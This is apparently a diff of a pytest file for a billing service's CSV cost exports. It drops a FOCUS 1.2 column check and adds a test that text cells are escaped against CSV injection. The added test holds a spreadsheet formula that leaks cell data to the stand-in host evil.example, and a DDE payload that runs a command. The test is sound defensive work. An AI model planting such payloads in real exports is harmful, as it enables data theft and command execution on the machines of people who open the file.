@@ -1,10 +1,10 @@
-"""Cost and usage exports: FOCUS 1.2 columns and types, sums back to the invoice, streaming."""
+"""Cost and usage exports: sums back to the invoice, days, tenancy, streaming (the FOCUS
+specification's own rules: test_focus.py)."""
 
 from __future__ import annotations
 
 import csv
 import io
-import re
 from collections import Counter
 from decimal import Decimal
 
@@ -16,36 +16,6 @@ from app.dashboard.exports import USAGE_COLUMNS, allocate
 from tests.dashboard.world import PERIOD, World
 from tests.harness import Console, bearer
 
-# FOCUS 1.2's Mandatory columns with their data type and whether they allow nulls, copied from
-# the specification (specification/columns/*.md at tag v1.2 of FinOps-Open-Cost-and-Usage-Spec/
-# FOCUS_Spec): the oracle the export is checked against, kept apart from the code's own list.
-FOCUS_12_MANDATORY = {
-    "BilledCost": ("Decimal", False),
-    "BillingAccountId": ("String", False),
-    "BillingAccountName": ("String", True),
-    "BillingCurrency": ("String", False),
-    "BillingPeriodEnd": ("Date/Time", False),
-    "BillingPeriodStart": ("Date/Time", False),
-    "ChargeCategory": ("String", False),
-    "ChargeClass": ("String", True),
-    "ChargeDescription": ("String", True),
-    "ChargePeriodEnd": ("Date/Time", False),
-    "ChargePeriodStart": ("Date/Time", False),
-    "ContractedCost": ("Decimal", False),
-    "EffectiveCost": ("Decimal", False),
-    "InvoiceIssuerName": ("String", False),
-    "ListCost": ("Decimal", False),
-    "PricingQuantity": ("Decimal", True),
-    "PricingUnit": ("String", True),
-    "ProviderName": ("String", False),
-    "PublisherName": ("String", False),
-    "ServiceCategory": ("String", False),
-    "ServiceName": ("String", False),
-}
-CHARGE_CATEGORIES = {"Usage", "Purchase", "Tax", "Credit", "Adjustment"}
-DATETIME = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")
-DECIMAL = re.compile(r"^-?\d+(\.\d+)?$")  # FOCUS numeric format: no sign for positives
-
 
 def export(client: TestClient, w: World, kind: str) -> list[dict[str, str]]:
     path = f"/v1/customers/{w.acme.customer['id']}/exports/{kind}?period={PERIOD}"
@@ -55,30 +25,6 @@ def export(client: TestClient, w: World, kind: str) -> list[dict[str, str]]:
         assert "content-length" not in response.headers  # streamed, not built whole
         text = "".join(response.iter_text())
     return list(csv.DictReader(io.StringIO(text)))
-
-
-def test_focus_export_has_every_mandatory_column_with_its_type(
-    client: TestClient, seeded: World
-) -> None:
-    rows = export(client, seeded, "focus.csv")
-    assert rows
-    missing = set(FOCUS_12_MANDATORY) - set(rows[0])
-    assert not missing, missing
-    for row in rows:
-        for name, (kind, nullable) in FOCUS_12_MANDATORY.items():
-            value = row[name]
-            if value == "":
-                assert nullable, (name, row)
-            elif kind == "Decimal":
-                assert DECIMAL.match(value), (name, value)
-            elif kind == "Date/Time":
-                assert DATETIME.match(value), (name, value)
-        assert row["ChargeCategory"] in CHARGE_CATEGORIES
-        assert row["ChargePeriodStart"] < row["ChargePeriodEnd"]
-        assert row["BillingPeriodStart"] <= row["ChargePeriodStart"]
-        assert [c for c in row if c not in FOCUS_12_MANDATORY and not c[0].isupper()] == [
-            c for c in row if c.startswith("x_")
-        ]  # custom columns carry the x_ prefix
 
 
 def test_exports_sum_back_to_the_invoice(client: TestClient, seeded: World) -> None:
@@ -147,7 +93,7 @@ def test_focus_sub_account_is_the_rental_by_its_name_else_its_gpus_and_dates(
     client: TestClient, seeded: World
 ) -> None:
     rental = seeded.acme.rental["id"]
-    described = "1 \u00d7 H100, 2026-10-10 02:00 to 2026-10-12 02:00 CEST"
+    described = "1 x H100, 2026-10-10 02:00 to 2026-10-12 02:00 CEST"
     for name, label in [(None, described), ("eval sweep", "eval sweep")]:
         renamed = client.patch(
             f"/v1/rentals/{rental}", json={"name": name}, headers=bearer(seeded.acme.key)
@@ -156,3 +102,42 @@ def test_focus_sub_account_is_the_rental_by_its_name_else_its_gpus_and_dates(
         rows = export(client, seeded, "focus.csv")
         rentals = {(r["SubAccountId"], r["SubAccountName"]) for r in rows if r["SubAccountId"]}
         assert rentals == {(rental, label)}
+
+
+def test_text_cells_that_a_spreadsheet_would_evaluate_are_escaped_numbers_are_not(
+    client: TestClient, console: Console, seeded: World
+) -> None:
+    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading
+    apostrophe; numeric columns keep their negative numbers as numbers."""
+    acme = seeded.acme
+    hostile = {
+        "customer": '=HYPERLINK("https://evil.example/?"&A1,"invoice")',
+        "rental": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    response = client.patch(
+        f"/v1/customers/{acme.customer['id']}",
+        json={"name": hostile["customer"]},
+        headers=console.headers,
+    )
+    assert response.status_code == 200, response.text
+    response = client.patch(
+        f"/v1/rentals/{acme.rental['id']}",
+        json={"name": hostile["rental"]},
+        headers=bearer(acme.key),
+    )
+    assert response.status_code == 200, response.text
+    focus = export(client, seeded, "focus.csv")
+    usage = export(client, seeded, "usage.csv")
+    names = {(r["BillingAccountName"], r["SubAccountName"]) for r in focus if r["SubAccountId"]}
+    assert names == {("'" + hostile["customer"], "'" + hostile["rental"])}
+    assert {r["ResourceName"] for r in focus if r["ResourceId"]} == {"'" + hostile["rental"]}
+    for rows in (focus, usage):
+        for r in rows:
+            for value in r.values():
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    # Credits stay negative numbers in the numeric columns.
+    credits = [r for r in usage if r["kind"] == "failure_credit"]
+    assert credits and all(Decimal(r["amount"]) < 0 for r in credits)
+    assert all(r["amount"].startswith("-") for r in credits)
+    assert any(r["BilledCost"].startswith("-") for r in focus)
+    assert all(not r["ChargeDescription"].startswith("'") for r in focus)
